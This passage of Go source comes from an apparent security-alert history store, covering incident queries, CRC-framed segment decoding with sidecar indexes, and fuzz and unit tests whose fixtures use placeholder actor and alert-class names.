	if q.Actor != "" && a.Actor != q.Actor {
		return false
	}
	if q.Class != "" && a.Class != q.Class {
		return false
	}
	if q.MinSeverity != "" && a.Severity.Rank() < q.MinSeverity.Rank() {
		return false
	}
	if !q.Since.IsZero() && a.Time.Before(q.Since) {
		return false
	}
	if !q.Until.IsZero() && a.Time.After(q.Until) {
		return false
	}
	return true
}

// QueryStats reports what a query scan cost: how many segments the
// index pruned versus scanned, how many records the survivors held,
// and any unreadable tail bytes encountered (a live writer's
// unflushed suffix reads as tail loss — expected, not an error).
type QueryStats struct {
	SegmentsTotal    int
	SegmentsSelected int
	Records          int
	TailLossBytes    int64
}

// QueryIncidents reconstructs the final state of every incident
// matching q: segments the index rules out are never opened, matching
// incident records dedup by (actor, class, generation) keeping the
// highest alert count — the latest snapshot, by monotonicity — and
// the result is materialized as core.Incident values (Count set,
// Alerts payload absent) sorted by actor, class, then generation, so
// equal histories render byte-identical tables regardless of segment
// layout or writer concurrency.
func QueryIncidents(s *Store, q Query) ([]*core.Incident, QueryStats, error) {
	var st QueryStats
	finals := map[string]IncidentRecord{}
	segs := s.Segments()
	st.SegmentsTotal = len(segs)
	for _, seg := range segs {
		if !q.MatchIndex(seg.Index) {
			continue
		}
		st.SegmentsSelected++
		res, err := scanSegment(seg.Path, func(r Record) error {
			st.Records++
			if r.Kind != KindIncident || !q.matchIncident(r.Incident) {
				return nil
			}
			key := r.Incident.Actor + "\x00" + r.Incident.Class + "\x00" + strconv.Itoa(r.Incident.Gen)
			if prev, ok := finals[key]; !ok || r.Incident.Alerts > prev.Alerts {
				finals[key] = r.Incident
			}
			return nil
		})
		if err != nil {
			return nil, st, err
		}
		st.TailLossBytes += res.TailLossBytes
	}
	incs := make([]*core.Incident, 0, len(finals))
	for _, in := range finals {
		incs = append(incs, &core.Incident{
			Actor:     in.Actor,
			Class:     in.Class,
			Opened:    in.Opened,
			LastAlert: in.LastAlert,
			Severity:  in.Severity,
			RiskScore: in.RiskScore,
			Count:     in.Alerts,
		})
	}
	sort.Slice(incs, func(i, j int) bool {
		a, b := incs[i], incs[j]
		if a.Actor != b.Actor {
			return a.Actor < b.Actor
		}
		if a.Class != b.Class {
			return a.Class < b.Class
		}
		return a.Opened.Before(b.Opened)
	})
	return incs, st, nil
}

// QueryAlerts returns the alert records matching q, sorted by time,
// then actor, rule, and class for a deterministic listing.
func QueryAlerts(s *Store, q Query) ([]AlertRecord, QueryStats, error) {
	var st QueryStats
	var out []AlertRecord
	segs := s.Segments()
	st.SegmentsTotal = len(segs)
	for _, seg := range segs {
		if !q.MatchIndex(seg.Index) {
			continue
		}
		st.SegmentsSelected++
		res, err := scanSegment(seg.Path, func(r Record) error {
			st.Records++
			if r.Kind == KindAlert && q.matchAlert(r.Alert) {
				out = append(out, r.Alert)
			}
			return nil
		})
		if err != nil {
			return nil, st, err
		}
		st.TailLossBytes += res.TailLossBytes
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if !a.Time.Equal(b.Time) {
			return a.Time.Before(b.Time)
		}
		if a.Actor != b.Actor {
			return a.Actor < b.Actor
		}
		if a.RuleID != b.RuleID {
			return a.RuleID < b.RuleID
		}
		return a.Class < b.Class
	})
	return out, st, nil
}

// FilterIncidents applies q's record-level predicate to live engine
// snapshots — the re-detection side of the equality contract: a query
// over recorded history must equal FilterIncidents over the incidents
// a fresh detection pass produces.
func FilterIncidents(incs []*core.Incident, q Query) []*core.Incident {
	out := make([]*core.Incident, 0, len(incs))
	for _, inc := range incs {
		rec := IncidentRecord{
			Actor:     inc.Actor,
			Class:     inc.Class,
			Opened:    inc.Opened,
			LastAlert: inc.LastAlert,
			Alerts:    inc.AlertCount(),
			Severity:  inc.Severity,
			RiskScore: inc.RiskScore,
		}
		if q.matchIncident(rec) {
			out = append(out, inc)
		}
	}
	return out
}

// Recorder adapts the core engine's hooks to history appends: wire
// OnAlert and OnIncidentUpdate into core.Options (or chain them after
// existing callbacks) and every fired alert and post-fold incident
// state lands in the store. Both hooks may be invoked concurrently
// from engine workers; the store serializes internally and the first
// failure is sticky — check Err after draining.
type Recorder struct {
	s *Store
}

// NewRecorder returns a Recorder appending to s.
func NewRecorder(s *Store) *Recorder { return &Recorder{s: s} }

// OnAlert records one fired alert.
func (r *Recorder) OnAlert(a rules.Alert) {
	_ = r.s.AppendAlert(AlertRecord{
		Time:     a.Time,
		Actor:    core.AlertActor(a),
		Class:    a.Class,
		RuleID:   a.RuleID,
		Severity: a.Severity,
		Count:    a.Count,
	})
}

// OnIncidentUpdate records one incident snapshot.
func (r *Recorder) OnIncidentUpdate(u core.IncidentUpdate) {
	_ = r.s.AppendIncident(IncidentRecord{
		Actor:     u.Actor,
		Class:     u.Class,
		Gen:       u.Gen,
		Opened:    u.Opened,
		LastAlert: u.LastAlert,
		Alerts:    u.Alerts,
		Severity:  u.Severity,
		RiskScore: u.RiskScore,
	})
}

// Err reports the store's first append failure, or nil.
func (r *Recorder) Err() error { return r.s.Err() }

// Store returns the underlying history store.
func (r *Recorder) Store() *Store { return r.s }
