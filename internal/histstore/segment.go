package histstore

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"sort"
	"time"
)

// Segment file layout: an 8-byte magic followed by frames of
//
//	uint32le payload length | uint32le CRC32C(payload) | payload
//
// where every payload is one history record ([kind][version][fields],
// see AppendRecord). Unlike evstore, the magic never changes across
// schema revisions: evolution happens at the record version byte, so
// one segment may legally mix record versions and old segments stay
// readable forever. Anything failing the length bound, the checksum,
// or the strict record decode marks the end of the valid prefix;
// readers stop there and report the remainder as tail loss, and the
// writer truncates it away on open so appends never land after
// garbage.
const (
	segMagic = "HSEG0001"
	// maxFrame bounds a frame payload; history records are a few
	// hundred bytes, so anything near a megabyte is corruption.
	maxFrame       = 1 << 20
	frameHeaderLen = 8
)

// castagnoli matches evstore's v2 framing: hardware-accelerated
// CRC32-Castagnoli on amd64/arm64.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// IndexVersion is the sidecar schema version this build writes.
// Unknown versions are rebuilt from the segment data, never trusted.
const IndexVersion = 1

// Index is the per-segment sidecar: enough metadata to decide,
// without touching the segment data, whether a filtered query can
// skip the segment entirely. The facets mirror the Query predicates:
//
//   - Severities/Bands carry per-value record counts; a minimum-
//     threshold filter skips the segment when no value at or above
//     the threshold appears. Sound because incident severity and risk
//     are monotone, so a qualifying incident's final record carries a
//     qualifying value into its segment's facet.
//   - Actors/Classes are exact distinct lists up to a cap, past which
//     the overflow flag means "could contain anyone" (fail-open).
//   - MinTime/MaxTime span every record's time extent (alert times
//     and incident [Opened, LastAlert] intervals), so a since/until
//     window skips segments it cannot overlap.
//
// Invariants shared with evstore: the sidecar is written only after
// the segment's frames are flushed, and counts cover exactly the
// valid frame prefix.
type Index struct {
	Version         int            `json:"version"`
	Records         int            `json:"records"`
	AlertRecords    int            `json:"alert_records"`
	IncidentRecords int            `json:"incident_records"`
	Bytes           int64          `json:"bytes"` // valid file length including magic
	MinTime         time.Time      `json:"min_time"`
	MaxTime         time.Time      `json:"max_time"`
	Severities      map[string]int `json:"severities,omitempty"`
	Bands           map[string]int `json:"bands,omitempty"`
	Actors          []string       `json:"actors,omitempty"`
	ActorsOverflow  bool           `json:"actors_overflow,omitempty"`
	Classes         []string       `json:"classes,omitempty"`
	ClassesOverflow bool           `json:"classes_overflow,omitempty"`
}

// indexBuilder accumulates the distinct-value sets an Index seals.
type indexBuilder struct {
	actors  map[string]struct{}
	classes map[string]struct{}
}

func newIndexBuilder() *indexBuilder {
	return &indexBuilder{actors: map[string]struct{}{}, classes: map[string]struct{}{}}
}

// observe folds one record into the index.
func (ix *Index) observe(r Record, frameBytes int64, b *indexBuilder, maxActors, maxClasses int) {
	var actor, class string
	var sev string
	var times [2]time.Time
	switch r.Kind {
	case KindAlert:
		ix.AlertRecords++
		actor, class, sev = r.Alert.Actor, r.Alert.Class, string(r.Alert.Severity)
		times[0], times[1] = r.Alert.Time, r.Alert.Time
	case KindIncident:
		ix.IncidentRecords++
		actor, class, sev = r.Incident.Actor, r.Incident.Class, string(r.Incident.Severity)
		times[0], times[1] = r.Incident.Opened, r.Incident.LastAlert
		if ix.Bands == nil {
			ix.Bands = map[string]int{}
		}
		ix.Bands[string(RiskBandOf(r.Incident.RiskScore))]++
	}
	for _, t := range times {
		if t.IsZero() {
			continue
		}
		if ix.MinTime.IsZero() || t.Before(ix.MinTime) {
			ix.MinTime = t
		}
		if t.After(ix.MaxTime) {
			ix.MaxTime = t
		}
	}
	if ix.Severities == nil {
		ix.Severities = map[string]int{}
	}
	ix.Severities[sev]++
	ix.Records++
	ix.Bytes += frameBytes
	if !ix.ActorsOverflow {
		b.actors[actor] = struct{}{}
		if len(b.actors) > maxActors {
			ix.ActorsOverflow = true
			clear(b.actors)
		}
	}
	if !ix.ClassesOverflow {
		b.classes[class] = struct{}{}
		if len(b.classes) > maxClasses {
			ix.ClassesOverflow = true
			clear(b.classes)
		}
	}
}

// seal finalizes the distinct-value lists for writing.
func (ix *Index) seal(b *indexBuilder) {
	ix.Actors = sortedKeys(b.actors, ix.ActorsOverflow)
	ix.Classes = sortedKeys(b.classes, ix.ClassesOverflow)
}

func sortedKeys(set map[string]struct{}, overflow bool) []string {
	if overflow {
		return nil
	}
	out := make([]string, 0, len(set))
	for k := range set {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// DecodeResult reports what a segment scan found: how much of the
// file was a valid frame sequence and how much trailing corruption
// (if any) was cut off.
type DecodeResult struct {
	Records    int
	ValidBytes int64 // length of the valid prefix including magic
	// TailLossBytes is how many trailing bytes were unreadable —
	// non-zero only when Truncated is set.
	TailLossBytes int64
	Truncated     bool
	// Reason describes the first bad frame when Truncated.
	Reason string
}

// DecodeFrames scans a history segment byte stream, invoking fn for
// every valid record in order. Corruption — bad magic, an absurd
// length, a checksum or decode failure, a short final frame — never
// returns an error: the scan stops at the first bad frame and the
// result records the clean prefix and the reason. A non-nil error
// from fn aborts the scan and is returned as-is. size is the total
// stream length if known (for tail-loss accounting), or -1.
func DecodeFrames(r io.Reader, size int64, fn func(Record) error) (DecodeResult, error) {
	var res DecodeResult
	br := bufio.NewReaderSize(r, 64<<10)
	truncate := func(reason string) (DecodeResult, error) {
		res.Truncated = true
		res.Reason = reason
		if size >= 0 {
			res.TailLossBytes = size - res.ValidBytes
		}
		return res, nil
	}

	magic := make([]byte, len(segMagic))
	if _, err := io.ReadFull(br, magic); err != nil || string(magic) != segMagic {
		return truncate("bad magic")
	}
	res.ValidBytes = int64(len(segMagic))

	var hdr [frameHeaderLen]byte
	var payload []byte
	for {
		if _, err := io.ReadFull(br, hdr[:]); err != nil {
			if err == io.EOF {
				return res, nil // clean end of segment
			}
			return truncate("short frame header")
		}
		length := binary.LittleEndian.Uint32(hdr[0:4])
		sum := binary.LittleEndian.Uint32(hdr[4:8])
		if length == 0 || length > maxFrame {
			return truncate("implausible frame length")
		}
		if uint32(cap(payload)) < length {
			payload = make([]byte, length)
		}
		payload = payload[:length]
		if _, err := io.ReadFull(br, payload); err != nil {
			return truncate("short frame payload")
		}
		if crc32.Checksum(payload, castagnoli) != sum {
			return truncate("checksum mismatch")
		}
		rec, err := DecodeRecord(payload)
		if err != nil {
			return truncate("frame not a record")
		}
		res.ValidBytes += frameHeaderLen + int64(length)
		res.Records++
		if err := fn(rec); err != nil {
			return res, err
		}
	}
}

// scanSegment decodes a segment file from disk.
func scanSegment(path string, fn func(Record) error) (DecodeResult, error) {
	f, err := os.Open(path)
	if err != nil {
		return DecodeResult{}, err
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return DecodeResult{}, err
	}
	return DecodeFrames(f, st.Size(), fn)
}

// rebuildIndex reconstructs a sidecar by scanning the segment data —
// the recovery path for a segment whose writer died before sealing.
func rebuildIndex(path string, maxActors, maxClasses int) (Index, DecodeResult, error) {
	ix := Index{Version: IndexVersion}
	b := newIndexBuilder()
	res, err := scanSegment(path, func(r Record) error {
		// Bytes is re-derived from the valid prefix below.
		ix.observe(r, 0, b, maxActors, maxClasses)
		return nil
	})
	if err != nil {
		return Index{}, res, err
	}
	ix.seal(b)
	ix.Bytes = res.ValidBytes
	return ix, res, nil
}

func indexPath(segPath string) string {
	return segPath[:len(segPath)-len(".hr")] + ".hx"
}

func loadIndex(path string) (Index, bool) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Index{}, false
	}
	var ix Index
	if err := json.Unmarshal(data, &ix); err != nil || ix.Version != IndexVersion {
		return Index{}, false
	}
	return ix, true
}

func writeIndex(path string, ix Index) error {
	data, err := json.Marshal(ix)
	if err != nil {
		return fmt.Errorf("histstore: %w", err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		return fmt.Errorf("histstore: %w", err)
	}
	return nil
}
