package histstore

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/rules"
)

// FuzzHistRecord checks the codec's canonical-form contract: any
// payload that decodes must re-encode to a stable byte string —
// decode(encode(decode(input))) is a fixed point. A violation means
// two different byte strings claim the same record (or a decoded
// record that cannot be re-persisted), which would break the
// dedup-by-content reasoning the query layer depends on.
func FuzzHistRecord(f *testing.F) {
	seed := []Record{
		{Kind: KindAlert, Alert: AlertRecord{
			Time:  time.Date(2026, 6, 1, 9, 0, 0, 123456789, time.UTC),
			Actor: "mallory-rw", Class: "ransomware.encrypt",
			RuleID: "SC-014", Severity: rules.SevCritical, Count: 12,
		}},
		{Kind: KindAlert, Alert: AlertRecord{}},
		{Kind: KindIncident, Incident: IncidentRecord{
			Actor: "203.0.113.66", Class: "auth.bruteforce", Gen: 3,
			Opened:    time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC),
			LastAlert: time.Date(2026, 6, 1, 9, 30, 0, 500, time.UTC),
			Alerts:    40, Severity: rules.SevHigh, RiskScore: 87.25,
		}},
		{Kind: KindIncident, Incident: IncidentRecord{Actor: "a", Class: "c"}},
	}
	for _, r := range seed {
		enc, err := AppendRecord(nil, r)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(enc)
	}
	f.Add([]byte{KindAlert, RecordVersion})
	f.Add([]byte{KindIncident, RecordVersion + 1, 0xff})

	f.Fuzz(func(t *testing.T, payload []byte) {
		rec, err := DecodeRecord(payload)
		if err != nil {
			return // rejected input: fine, as long as it never panics
		}
		enc1, err := AppendRecord(nil, rec)
		if err != nil {
			t.Fatalf("decoded record does not re-encode: %v (%+v)", err, rec)
		}
		rec2, err := DecodeRecord(enc1)
		if err != nil {
			t.Fatalf("re-encoded record does not decode: %v (%+v)", err, rec)
		}
		enc2, err := AppendRecord(nil, rec2)
		if err != nil {
			t.Fatalf("second re-encode failed: %v", err)
		}
		if !bytes.Equal(enc1, enc2) {
			t.Fatalf("encoding not canonical:\nfirst  %x\nsecond %x\nrecord %+v", enc1, enc2, rec)
		}
	})
}
