package histstore

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"repro/internal/rules"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func mkAlert(actor string, sev rules.Severity, at time.Time) AlertRecord {
	return AlertRecord{
		Time:     at,
		Actor:    actor,
		Class:    "test.class",
		RuleID:   "SC-001",
		Severity: sev,
		Count:    3,
	}
}

func mkIncident(actor, class string, gen, alerts int, sev rules.Severity, risk float64, opened, last time.Time) IncidentRecord {
	return IncidentRecord{
		Actor: actor, Class: class, Gen: gen,
		Opened: opened, LastAlert: last,
		Alerts: alerts, Severity: sev, RiskScore: risk,
	}
}

func TestRecordRoundTrip(t *testing.T) {
	recs := []Record{
		{Kind: KindAlert, Alert: mkAlert("mallory", rules.SevHigh, t0)},
		{Kind: KindAlert, Alert: AlertRecord{}}, // all zero values
		{Kind: KindIncident, Incident: mkIncident("mallory", "ransomware", 2, 17, rules.SevCritical, 93.5, t0, t0.Add(time.Minute))},
		{Kind: KindIncident, Incident: IncidentRecord{Actor: "a", Class: "c"}},
	}
	for i, r := range recs {
		enc, err := AppendRecord(nil, r)
		if err != nil {
			t.Fatalf("record %d: encode: %v", i, err)
		}
		got, err := DecodeRecord(enc)
		if err != nil {
			t.Fatalf("record %d: decode: %v", i, err)
		}
		if !reflect.DeepEqual(got, r) {
			t.Fatalf("record %d: round-trip mismatch:\n got %+v\nwant %+v", i, got, r)
		}
	}
}

func TestDecodeRecordStrict(t *testing.T) {
	good, err := AppendRecord(nil, Record{Kind: KindIncident,
		Incident: mkIncident("a", "c", 0, 1, rules.SevLow, 10, t0, t0)})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name    string
		payload []byte
	}{
		{"empty", nil},
		{"unknown kind", []byte{9, RecordVersion, 0}},
		{"unknown version", []byte{KindAlert, RecordVersion + 1}},
		{"trailing bytes", append(append([]byte(nil), good...), 0xff)},
		{"truncated", good[:len(good)-3]},
		{"bad time presence", []byte{KindAlert, RecordVersion, 7}},
	}
	for _, tc := range cases {
		if _, err := DecodeRecord(tc.payload); err == nil {
			t.Errorf("%s: decoded, want error", tc.name)
		}
	}
}

func TestStoreRoundTripAndRotation(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SegmentBytes: 512, FlushEvery: 4})
	if err != nil {
		t.Fatal(err)
	}
	const n = 40
	for i := 0; i < n; i++ {
		if err := s.AppendAlert(mkAlert("mallory", rules.SevMedium, t0.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
		if err := s.AppendIncident(mkIncident("mallory", "test.class", 0, i+1, rules.SevMedium, 40,
			t0, t0.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if got := len(s.Segments()); got < 2 {
		t.Fatalf("expected rotation to produce multiple segments, got %d", got)
	}

	r, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	st := r.Stats()
	if st.Records != 2*n || st.AlertRecords != n || st.IncidentRecords != n {
		t.Fatalf("stats %+v, want %d records (%d alerts, %d incidents)", st, 2*n, n, n)
	}
	alerts, _, err := QueryAlerts(r, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != n {
		t.Fatalf("got %d alerts, want %d", len(alerts), n)
	}
	incs, _, err := QueryIncidents(r, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incs) != 1 {
		t.Fatalf("got %d incidents, want 1 (all updates dedup to one)", len(incs))
	}
	if incs[0].AlertCount() != n {
		t.Fatalf("final incident has %d alerts, want %d (the max-count record)", incs[0].AlertCount(), n)
	}
	if !strings.Contains(st.Render(), "records=80") {
		t.Fatalf("stats render %q missing record count", st.Render())
	}
}

func TestQueryPrunesSegments(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Segment 1: low-severity incidents for alice, early window.
	for i := 0; i < 5; i++ {
		if err := s.AppendIncident(mkIncident("alice", "benign.class", 0, i+1, rules.SevLow, 10,
			t0, t0.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil { // seal segment 1
		t.Fatal(err)
	}
	// Segment 2: critical incidents for mallory, late window.
	late := t0.Add(time.Hour)
	for i := 0; i < 5; i++ {
		if err := s.AppendIncident(mkIncident("mallory", "ransomware", 0, i+1, rules.SevCritical, 90,
			late, late.Add(time.Duration(i)*time.Second))); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	r, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(r.Segments()); got != 2 {
		t.Fatalf("got %d segments, want 2", got)
	}
	for _, tc := range []struct {
		name     string
		q        Query
		selected int
		actors   []string
	}{
		{"by actor", Query{Actor: "mallory"}, 1, []string{"mallory"}},
		{"by class", Query{Class: "benign.class"}, 1, []string{"alice"}},
		{"by min severity", Query{MinSeverity: rules.SevHigh}, 1, []string{"mallory"}},
		{"by min band", Query{MinBand: BandCritical}, 1, []string{"mallory"}},
		{"by window", Query{Until: t0.Add(30 * time.Minute)}, 1, []string{"alice"}},
		{"by late window", Query{Since: t0.Add(30 * time.Minute)}, 1, []string{"mallory"}},
		{"unfiltered", Query{}, 2, []string{"alice", "mallory"}},
	} {
		incs, st, err := QueryIncidents(r, tc.q)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if st.SegmentsSelected != tc.selected {
			t.Errorf("%s: selected %d segments, want %d", tc.name, st.SegmentsSelected, tc.selected)
		}
		var actors []string
		for _, inc := range incs {
			actors = append(actors, inc.Actor)
		}
		if !reflect.DeepEqual(actors, tc.actors) {
			t.Errorf("%s: got actors %v, want %v", tc.name, actors, tc.actors)
		}
	}
}

func TestDedupAcrossGenerationsAndOrder(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Gen 0 closed at 3 alerts; gen 1 reopened and reached 2. Updates
	// arrive out of order (concurrent engine workers may interleave),
	// but the per-gen max-count record must win regardless.
	updates := []IncidentRecord{
		mkIncident("m", "c", 0, 2, rules.SevMedium, 40, t0, t0.Add(2*time.Second)),
		mkIncident("m", "c", 0, 3, rules.SevHigh, 60, t0, t0.Add(3*time.Second)),
		mkIncident("m", "c", 0, 1, rules.SevLow, 20, t0, t0.Add(time.Second)),
		mkIncident("m", "c", 1, 2, rules.SevMedium, 40, t0.Add(time.Hour), t0.Add(time.Hour+time.Second)),
		mkIncident("m", "c", 1, 1, rules.SevLow, 20, t0.Add(time.Hour), t0.Add(time.Hour)),
	}
	for _, u := range updates {
		if err := s.AppendIncident(u); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	incs, _, err := QueryIncidents(s, Query{})
	if err != nil {
		t.Fatal(err)
	}
	if len(incs) != 2 {
		t.Fatalf("got %d incidents, want 2 (one per generation)", len(incs))
	}
	if incs[0].AlertCount() != 3 || incs[0].Severity != rules.SevHigh {
		t.Fatalf("gen 0 final state %+v, want 3 alerts at high", incs[0])
	}
	if incs[1].AlertCount() != 2 {
		t.Fatalf("gen 1 final state %+v, want 2 alerts", incs[1])
	}
}

func TestOpenWithModes(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "hist")
	s, err := OpenWith(dir, OpenFresh, Options{})
	if err != nil {
		t.Fatalf("fresh open of a new dir: %v", err)
	}
	if err := s.AppendAlert(mkAlert("a", rules.SevLow, t0)); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	if _, err := OpenWith(dir, OpenFresh, Options{}); err == nil {
		t.Fatal("OpenFresh accepted a non-empty history")
	}

	app, err := OpenWith(dir, OpenAppend, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := app.AppendAlert(mkAlert("b", rules.SevLow, t0)); err != nil {
		t.Fatal(err)
	}
	if err := app.Close(); err != nil {
		t.Fatal(err)
	}
	if got := app.Records(); got != 2 {
		t.Fatalf("after append reopen: %d records, want 2", got)
	}

	rep, err := OpenWith(dir, OpenReplace, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Records(); got != 0 {
		t.Fatalf("after replace: %d records, want 0", got)
	}
}

func TestFacetOverflowFailsOpen(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{MaxActors: 2, MaxClasses: 2})
	if err != nil {
		t.Fatal(err)
	}
	for i, actor := range []string{"a", "b", "c", "d"} {
		if err := s.AppendIncident(mkIncident(actor, "class-"+actor, 0, i+1, rules.SevLow, 10, t0, t0)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	if len(segs) != 1 || !segs[0].Index.ActorsOverflow || !segs[0].Index.ClassesOverflow {
		t.Fatalf("expected one overflowed segment, got %+v", segs)
	}
	// Overflow means "could contain anyone": the filter must still
	// visit the segment and find the actor.
	incs, st, err := QueryIncidents(s, Query{Actor: "d", Class: "class-d"})
	if err != nil {
		t.Fatal(err)
	}
	if st.SegmentsSelected != 1 || len(incs) != 1 {
		t.Fatalf("overflowed segment pruned: selected=%d incidents=%d", st.SegmentsSelected, len(incs))
	}
}

func TestCompactDropsOldestFirst(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for seg := 0; seg < 3; seg++ {
		if err := s.AppendAlert(mkAlert("a", rules.SevLow, t0.Add(time.Duration(seg)*time.Minute))); err != nil {
			t.Fatal(err)
		}
		if err := s.Close(); err != nil { // seal one segment per alert
			t.Fatal(err)
		}
	}
	n, err := s.Compact(1)
	if err != nil {
		t.Fatal(err)
	}
	if n != 2 {
		t.Fatalf("compacted %d segments, want 2", n)
	}
	segs := s.Segments()
	if len(segs) != 1 || segs[0].N != 3 {
		t.Fatalf("survivor %+v, want only segment 3 (the newest)", segs)
	}
	files, err := filepath.Glob(filepath.Join(dir, "hist-*"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 2 { // one .hr + one .hx
		t.Fatalf("on disk: %v, want exactly the survivor's data+sidecar", files)
	}
}

func TestOpenReadIsReadOnly(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.AppendAlert(mkAlert("a", rules.SevLow, t0)); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.AppendAlert(mkAlert("b", rules.SevLow, t0)); err == nil {
		t.Fatal("append on read-only store succeeded")
	}
	if _, err := r.Compact(0); err == nil {
		t.Fatal("compact on read-only store succeeded")
	}
}

func TestRiskBands(t *testing.T) {
	for _, tc := range []struct {
		score float64
		want  Band
	}{
		{0, BandLow}, {24.9, BandLow}, {25, BandModerate}, {49.9, BandModerate},
		{50, BandElevated}, {74.9, BandElevated}, {75, BandCritical}, {100, BandCritical},
	} {
		if got := RiskBandOf(tc.score); got != tc.want {
			t.Errorf("RiskBandOf(%v) = %s, want %s", tc.score, got, tc.want)
		}
	}
	for i, b := range KnownBands() {
		if BandRank(b) != i {
			t.Errorf("BandRank(%s) = %d, want %d", b, BandRank(b), i)
		}
		if parsed, ok := ParseBand(string(b)); !ok || parsed != b {
			t.Errorf("ParseBand(%s) failed", b)
		}
	}
	if _, ok := ParseBand("serious"); ok {
		t.Error("ParseBand accepted an unknown band")
	}
	if BandRank("serious") != -1 {
		t.Error("unknown band should rank below every real one")
	}
}

func TestRecoveredSurfacedViaStats(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.AppendAlert(mkAlert("a", rules.SevLow, t0)); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	seg := s.Segments()[0]
	if err := os.Remove(indexPath(seg.Path)); err != nil {
		t.Fatal(err)
	}
	garbage := []byte("torn")
	f, err := os.OpenFile(seg.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write(garbage); err != nil {
		t.Fatal(err)
	}
	f.Close()
	re, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := re.Stats().RecoveredLossBytes; got != int64(len(garbage)) {
		t.Fatalf("stats report %d recovered-loss bytes, want %d", got, len(garbage))
	}
}
