// Package histstore persists what detection found — alert records and
// incident snapshots — as an append-only, CRC-framed, schema-versioned
// history next to the raw event store, so "show me the critical
// incidents for actor X last week" is an index probe over per-segment
// sidecars instead of an O(store) re-detection replay.
//
// The layout mirrors internal/evstore deliberately: segment-rotated
// files of length+CRC32C frames behind an 8-byte magic, JSON sidecar
// indexes written only after the segment data is flushed (a present
// sidecar certifies a cleanly sealed segment), torn tails truncated by
// the next writer Open and surfaced via Recovered, and an OpenRead
// path that never mutates so queries run safely under a live writer.
// What differs is the payload: typed history records with their own
// version byte (the segment magic stays fixed; schema evolution is
// per-record), and index facets chosen for the query predicates —
// severity, risk band, class, actor, and the incident time interval.
//
// Query soundness under segment pruning rests on the monotonicity of
// incident aggregates (see core.IncidentUpdate): severity and risk
// only ever rise, the alert count strictly grows, and the
// [Opened, LastAlert] interval only widens. Filters are therefore
// minimum thresholds (--severity/--risk) or interval overlap
// (--since/--until) — upward-closed predicates, so an incident's
// final record matches whenever any earlier record does, and the
// final record's segment is never pruned for an incident that belongs
// in the result. Reconstruction keeps the highest-count record per
// (actor, class, generation), which is exactly the engine's final
// state for that incident.
package histstore

import (
	"encoding/binary"
	"fmt"
	"math"
	"time"

	"repro/internal/rules"
)

// Record kinds — the first payload byte of every frame.
const (
	// KindAlert frames carry one AlertRecord.
	KindAlert = 1
	// KindIncident frames carry one IncidentRecord snapshot.
	KindIncident = 2
)

// RecordVersion is the record schema version this build writes, as the
// second payload byte. Migration rule: adding fields bumps the
// version, the decoder gains a case for the new layout, and every
// older version stays decodable forever — history written by any past
// build must always be readable. An unknown (newer) version is a
// decode error, never a guess.
const RecordVersion = 1

// AlertRecord is the persisted form of one fired alert: the fields a
// history query filters and displays, without the triggering event
// payload (the raw event store keeps those; history is the compact
// tier that outlives them).
type AlertRecord struct {
	Time     time.Time
	Actor    string
	Class    string
	RuleID   string
	Severity rules.Severity
	// Count is the alert's aggregated trigger count (rules.Alert.Count),
	// zero when the rule fired on a single event.
	Count int
}

// IncidentRecord is one incident snapshot: the post-fold aggregate
// state after an alert joined the incident (core.IncidentUpdate,
// persisted). Every aggregate is monotone across the records of one
// (Actor, Class, Gen) incident — Alerts strictly grows, Severity rank
